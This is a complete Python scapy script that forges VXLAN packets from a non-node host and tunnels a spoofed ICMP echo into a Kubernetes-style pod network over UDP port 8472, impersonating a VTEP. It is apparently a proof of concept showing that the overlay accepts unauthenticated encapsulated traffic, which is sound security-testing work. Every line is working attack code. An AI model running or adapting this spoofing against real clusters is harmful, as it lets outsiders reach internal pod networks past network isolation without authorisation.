#!/usr/bin/env python3
"""Sends VXLAN from a host that is no node: the right VNI and VTEP MAC,
an ICMP echo for a pod inside, from a public IP nobody registered.

spoof_vxlan.py IFACE SRC_IP DST_IP VTEP_MAC POD_IP [COUNT]
"""
import sys

from scapy.all import Ether, ICMP, IP, UDP, VXLAN, conf, sendp  # noqa: E402

iface, src, dst, vtep_mac, pod = sys.argv[1:6]
count = int(sys.argv[6]) if len(sys.argv) > 6 else 5
conf.verb = 0
inner = Ether(dst=vtep_mac, src="0e:66:66:66:66:66") / IP(src="10.244.99.9", dst=pod, ttl=63) / ICMP(id=0x7a7a)
frame = Ether(dst="ff:ff:ff:ff:ff:ff") / IP(src=src, dst=dst) / UDP(sport=40000, dport=8472) / VXLAN(vni=1, flags=0x08) / inner
sendp(frame, iface=iface, count=count, inter=0.05)
